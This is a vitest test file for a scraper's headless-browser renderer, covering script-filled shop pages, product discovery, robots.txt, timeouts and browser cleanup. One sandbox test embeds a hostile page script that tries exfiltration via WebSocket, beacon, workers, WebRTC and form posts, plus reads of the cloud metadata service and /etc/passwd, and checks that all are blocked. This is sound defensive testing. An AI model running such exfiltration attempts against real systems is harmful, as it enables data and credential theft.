import type { Renderer } from '../../server/scrape/render/renderer.ts'
import type { Ask } from '../../server/scrape/render/traffic.ts'
import type { Handler } from '../scrape/shops/server.ts'
import { Buffer } from 'node:buffer'
import { execFileSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import process from 'node:process'
import { describe, expect, test } from 'vitest'
import { findProgram, testTools } from '../../scripts/setup/find-program.mjs'
import { openEvidence } from '../../server/contract/evidence.ts'
import { createRenderer } from '../../server/scrape/render/renderer.ts'
import { decimalOf, goods } from '../scrape/shops/goods.ts'
import { discoverShop, shopAt, testScraper } from '../scrape/shops/run.ts'
import { notFound, send, sendJson, serve } from '../scrape/shops/server.ts'
import { browserMissing } from '../support/browser.ts'
import { silentLog } from '../support/log.ts'

const program = findProgram(testTools.chromium) ?? 'auto'
const [good, other] = goods(2)
const shell = (script: string): string => `<!doctype html><html><head><title>Shop</title></head><body><div id="root"></div><noscript>You need to enable JavaScript to run this app.</noscript><script>${script}</script></body></html>`
const signal = (): AbortSignal => AbortSignal.timeout(30_000)

/** A page that its script fills from the shop's API. */
const app = `
  const link = document.createElement('link')
  link.rel = 'stylesheet'
  link.href = '/app.css'
  document.head.append(link, Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/later.js' }), Object.assign(new Image(), { src: '/banner.png' }))
  fetch('/api' + location.pathname, { headers: { 'x-api-key': 'public-key' } }).then(answer => answer.json()).then((good) => {
    document.title = good.name
    document.getElementById('root').innerHTML = '<h1></h1><img src="/photo.jpg">'
    document.querySelector('h1').textContent = good.name
    const data = document.createElement('script')
    data.type = 'application/ld+json'
    data.textContent = JSON.stringify({ '@context': 'https://schema.org', '@type': 'Product', 'name': good.name, 'sku': good.sku, 'offers': { '@type': 'Offer', 'price': good.price, 'priceCurrency': 'EUR', 'availability': 'https://schema.org/InStock' } })
    document.head.append(data)
  })`
const appPage = shell('').replace('<script></script>', '<script src="/app.js"></script>')

const appShop: Handler = ({ path }, response) => {
  const found = goods(2).find(each => path === `/api/p/${each.handle}`)
  if (found)
    return sendJson(response, { name: found.name, sku: found.sku, price: decimalOf(found.priceMinor) })
  if (path === '/app.js')
    return send(response, 200, app, { 'content-type': 'text/javascript' })
  return path.startsWith('/p/') ? send(response, 200, appPage, { etag: '"shell"' }) : notFound(response)
}

function render(renderer: Renderer, script: string, ask: Ask = () => Promise.reject(new Error('nobody there')), until: AbortSignal = signal()) {
  return renderer.render({ page: { url: 'http://shop.example/p', html: shell(script) }, ask, signal: until })
}

/** Chromium's processes that this one has started, zombies aside. */
function browsers(): string[] {
  const lines = execFileSync('ps', ['-eo', 'pid=,ppid=,stat=,args=']).toString().split('\n').map(line => line.trim().split(/\s+/))
  const mine = new Set([String(process.pid)])
  for (const [pid, parent] of lines) {
    if (mine.has(parent!))
      mine.add(pid!)
  }
  return lines.filter(([pid, , stat, ...args]) => mine.has(pid!) && !stat!.startsWith('Z') && /chrom/i.test(args.join(' '))).map(([pid]) => pid!)
}

describe.skipIf(browserMissing !== null)('the renderer', () => {
  test('reads a shop that its scripts fill, politely: each script once, no picture, no style, nothing for later', async () => {
    await using server = await serve(appShop)
    await using scraper = testScraper(server, { renderer: program })
    await using run = scraper.open(shopAt(server.origin))
    const reading = await run.read(`${server.origin}/p/${good!.handle}`, { memory: null, signal: signal() })
    expect(reading).toMatchObject({ outcome: 'read', url: `${server.origin}/p/${good!.handle}`, failure: null, draft: { name: good!.name, sku: good!.sku, priceMinor: good!.priceMinor, currency: 'EUR', availability: 'InStock' } })
    expect(openEvidence(reading.evidence).price).toMatchObject({ source: 'json-ld', path: expect.stringMatching(/^rendered/) as string })
    expect(reading.memory, 'the shell\'s version is not the product\'s').toMatchObject({ etag: null, lastModified: null })
    expect(await run.read(`${server.origin}/p/${good!.handle}`, { memory: reading.memory, signal: signal() })).toMatchObject({ outcome: 'unchanged' })
    expect(await run.read(`${server.origin}/p/${other!.handle}`, { memory: null, signal: signal() })).toMatchObject({ draft: { priceMinor: other!.priceMinor } })
    expect(run.report()).toMatchObject({ rendered: 3, requests: 8, byOutcome: { 200: 7, 404: 1 } })
    const counts = Map.groupBy(server.visits.map(visit => visit.path), path => path)
    expect(Object.fromEntries([...counts].map(([path, visits]) => [path, visits.length]))).toEqual({
      '/robots.txt': 1,
      '/app.js': 1,
      [`/p/${good!.handle}`]: 2,
      [`/api/p/${good!.handle}`]: 2,
      [`/p/${other!.handle}`]: 1,
      [`/api/p/${other!.handle}`]: 1,
    })
    const api = server.visits.find(visit => visit.path.startsWith('/api'))!
    expect(api.headers).toMatchObject({ 'user-agent': expect.stringMatching(/^Gleaner/) as string, 'x-api-key': 'public-key' })
  })

  test('finds the products of such a shop by its sitemap, though every page comes empty', async () => {
    const all = goods(2)
    await using server = await serve((request, response) => request.path === '/sitemap.xml'
      ? send(response, 200, `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${all.map(each => `<url><loc>http://${request.headers.host}/p/${each.handle}</loc></url>`).join('')}</urlset>`, { 'content-type': 'application/xml' })
      : appShop(request, response))
    const { products, report } = await discoverShop(server, { config: { renderer: program } })
    expect(products.map(each => each.url).sort()).toEqual(all.map(each => `${server.origin}/p/${each.handle}`).sort())
    expect(report.strategy).toBe('sitemap')
  })

  test('finds the products of a shop whose lists are made by scripts alone, over all pages', async () => {
    const all = goods(24)
    const list = `fetch('/api/list' + location.search).then(answer => answer.json()).then(({ goods, next }) => {
      document.getElementById('root').innerHTML = '<ul>' + goods.map(good => '<li class="card"><a href="/p/' + good.handle + '"><img src="/i.jpg">' + good.name + '</a><b>€ 9.95</b></li>').join('') + '</ul>' + (next ? '<a rel="next" href="/?page=' + next + '">Next</a>' : '')
    })`
    await using server = await serve((request, response) => {
      if (request.url.pathname === '/')
        return send(response, 200, shell(list))
      if (request.url.pathname === '/api/list') {
        const page = Number(request.url.searchParams.get('page') ?? 1)
        return sendJson(response, { goods: all.slice(page * 12 - 12, page * 12), next: page < 2 ? page + 1 : null })
      }
      const found = all.find(({ handle }) => request.path === `/api/p/${handle}`)
      return found ? sendJson(response, { name: found.name, sku: found.sku, price: decimalOf(found.priceMinor) }) : appShop(request, response)
    })
    const { products, report } = await discoverShop(server, { config: { renderer: program } })
    expect(report).toMatchObject({ strategy: 'listing', complete: true, failures: [] })
    expect(products.map(each => each.url).sort()).toEqual(all.map(each => `${server.origin}/p/${each.handle}`).sort())
  })

  test('a shop whose lists are made by scripts says what is missing to find its products', async () => {
    await using server = await serve(({ path }, response) => path === '/' ? send(response, 200, shell('document.getElementById("root").innerHTML = "<h1>Welcome</h1><a href=/p/1>Our first bowl</a>"')) : notFound(response))
    const { products, report } = await discoverShop(server, { config: { renderer: program } })
    expect(products).toEqual([])
    expect(report).toMatchObject({ complete: false, failures: [{ code: 'needs-javascript', message: expect.stringContaining('sitemap') as string }] })
  })

  test('a browser that is killed under a page costs that page, and the next one gets another', async () => {
    const before = browsers()
    await using renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog })
    const asked = Promise.withResolvers<void>()
    const under = render(renderer, 'fetch("/never")', () => {
      asked.resolve()
      return new Promise(() => {})
    })
    under.catch(() => {})
    await asked.promise
    for (const pid of browsers().filter(each => !before.includes(each))) {
      try {
        process.kill(Number(pid), 'SIGKILL')
      }
      catch {
        // It went with its parent.
      }
    }
    await expect(under).rejects.toMatchObject({ code: 'parse-failed' })
    await expect(render(renderer, 'document.body.append("well")')).resolves.toMatchObject({ html: expect.stringContaining('well') as string })
  })

  test('robots.txt holds for what scripts ask, too, and the reading says that something was refused', async () => {
    await using server = await serve((request, response) => request.path === '/robots.txt' ? send(response, 200, 'User-agent: *\nDisallow: /api/') : appShop(request, response))
    await using scraper = testScraper(server, { renderer: program })
    await using run = scraper.open(shopAt(server.origin))
    const { outcome, failure } = await run.read(`${server.origin}/p/${good!.handle}`, { memory: null, signal: signal() })
    expect({ outcome, failure }).toMatchObject({ outcome: 'failed', failure: { code: 'needs-javascript', message: expect.stringContaining('1 of their 2 requests were refused') as string } })
    expect(server.visits.filter(visit => visit.path.startsWith('/api'))).toEqual([])
  })

  test('nothing gets out past the rules: no private port, metadata service, file, socket, frame, worker, beacon, window or UDP', async () => {
    await using canary = await serve((_, response) => send(response, 200, 'secret', { 'access-control-allow-origin': '*' }))
    const udp = createSocket('udp4').bind(0, '127.0.0.1')
    await once(udp, 'listening')
    let datagrams = 0
    udp.on('message', () => datagrams++)
    const attack = `(async () => {
      const told = []
      const tell = (name, work) => work.then(() => told.push(name + ' got through'), () => told.push(name))
      const canary = '${canary.origin}'
      const socket = new WebSocket(canary.replace('http', 'ws') + '/socket')
      navigator.sendBeacon(canary + '/beacon', 'x')
      for (const [tag, address] of [['iframe', '/frame'], ['img', '/image'], ['script', '/script']])
        document.body.append(Object.assign(document.createElement(tag), { src: canary + address }))
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'file:///etc/passwd' }))
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'])
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: canary + '/' + rel }))
      const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + canary + "/worker').catch(() => {}); try { new WebSocket('" + canary.replace('http', 'ws') + "/worker-socket') } catch {}; try { new EventSource('" + canary + "/events') } catch {}"])))
      open(canary + '/window')
      const rtc = typeof RTCPeerConnection === 'undefined' ? 'no rtc' : 'rtc'
      const form = document.createElement('form')
      form.action = canary + '/form'
      form.method = 'post'
      form.target = 'other'
      document.body.append(form)
      form.submit()
      await tell('metadata', fetch('http://169.254.169.254/latest/meta-data/', { mode: 'no-cors' }))
      await tell('port', fetch(canary + '/fetch', { mode: 'no-cors' }))
      await tell('own', fetch('/ok'))
      await tell('redirect', fetch('/away'))
      await tell('post', fetch(canary + '/post', { method: 'POST', mode: 'no-cors', body: 'x' }))
      await tell('file', fetch('file:///etc/passwd'))
      await tell('rtc', new Promise((resolve, reject) => {
        if (rtc === 'no rtc')
          return reject()
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] })
        peer.createDataChannel('x')
        peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(() => setTimeout(resolve, 500))
      }))
      document.getElementById('root').textContent = told.join(', ')
      await new Promise(resolve => setTimeout(resolve, 300))
      await fetch('/end')
      location.href = canary + '/leave'
    })()`
    const seen: string[] = []
    await using server = await serve(({ path }, response) => {
      seen.push(path)
      if (path === '/away')
        return send(response, 302, '', { location: `${canary.origin}/redirected` })
      return path === '/p' ? send(response, 200, shell(attack)) : path === '/ok' || path === '/end' ? send(response, 200, 'fine') : notFound(response)
    })
    await using scraper = testScraper(server, { renderer: program })
    await using run = scraper.open(shopAt(server.origin))
    const { html: _, ...reading } = await run.read(`${server.origin}/p`, { memory: null, signal: signal() })
    expect(reading).toMatchObject({ outcome: 'failed', failure: { code: 'needs-javascript' } })
    expect(seen, 'the page\'s script ran to its end').toEqual(expect.arrayContaining(['/ok', '/away', '/end']))
    expect(canary.visits).toEqual([])
    expect(canary.connections()).toBe(0)
    expect(datagrams).toBe(0)
    udp.close()
  })

  test('without a route the browser itself reaches nothing, this machine included', async () => {
    await using canary = await serve((_, response) => send(response, 200, 'secret'))
    const { launchBrowser } = await import('../../server/scrape/render/browser.ts')
    await using browser = await launchBrowser(program, 20_000)
    const page = await browser.newPage()
    for (const address of [canary.origin, canary.origin.replace('127.0.0.1', 'localhost'), 'http://[::1]/'])
      await expect(page.goto(address)).rejects.toThrow(/ERR_PROXY_CONNECTION_FAILED|ERR_NAME_NOT_RESOLVED/)
    expect(canary.connections()).toBe(0)
  })

  test('a page that never rests is taken as it stands, one whose script never ends is given up, and the next is read', async () => {
    await using renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog, limits: { loadMs: 1000, answerMs: 1500, requests: 20 } })
    let asked = 0
    const restless = await render(renderer, 'document.body.append("as it stands"); setInterval(() => fetch("/more").catch(() => {}), 20)', async () => {
      asked++
      return { headers: {}, body: Buffer.from('x') }
    })
    expect(restless.html).toContain('as it stands')
    expect(asked).toBeLessThanOrEqual(20)
    await expect(render(renderer, 'for (;;);')).rejects.toMatchObject({ code: 'timeout' })
    await expect(render(renderer, 'document.body.append("well")')).resolves.toMatchObject({ html: expect.stringContaining('well') as string })
  })

  test('a page whose scripts go on to another address of the shop is read there; no picture, beacon or post is asked for', async () => {
    await using renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog })
    const asked: string[] = []
    const rendered = await render(renderer, 'new Image().src = "/a.png"; navigator.sendBeacon("/b"); fetch("/c", { method: "POST" }).catch(() => {}); location.replace("/next")', async (url) => {
      asked.push(url)
      return { headers: { 'content-type': 'text/html' }, body: Buffer.from('<p>here</p>') }
    })
    expect(rendered).toMatchObject({ url: 'http://shop.example/next', html: expect.stringContaining('here') as string })
    expect(asked).toEqual(['http://shop.example/next'])
  })

  test('an aborted page ends at once with the signal\'s reason, and its requests with it', async () => {
    await using renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog })
    const abort = new AbortController()
    const asked = Promise.withResolvers<AbortSignal>()
    const rendering = render(renderer, 'fetch("/never")', (_, options) => {
      asked.resolve(options.signal)
      return new Promise(() => {})
    }, abort.signal)
    const inner = await asked.promise
    abort.abort(new Error('enough'))
    await expect(rendering).rejects.toThrow('enough')
    expect(inner.aborted).toBe(true)
  })

  test('the browser starts with the first page, ends when it is idle, starts again, and is gone after disposal', async () => {
    const before = browsers()
    const renderer = createRenderer({ program, userAgent: 'Gleaner/1.0', log: silentLog, limits: { idleMs: 50 } })
    expect(browsers()).toEqual(before)
    await render(renderer, '')
    await expect.poll(browsers, { timeout: 10_000 }).toEqual(before)
    const asked = Promise.withResolvers<void>()
    const under = render(renderer, 'fetch("/never")', () => {
      asked.resolve()
      return new Promise(() => {})
    })
    under.catch(() => {})
    await asked.promise
    expect(browsers().length).toBeGreaterThan(before.length)
    await renderer[Symbol.asyncDispose]()
    await expect(under).rejects.toMatchObject({ code: 'service-unavailable' })
    await expect.poll(browsers, { timeout: 5000 }).toEqual(before)
    await expect(render(renderer, '')).rejects.toMatchObject({ code: 'service-unavailable' })
  })
})
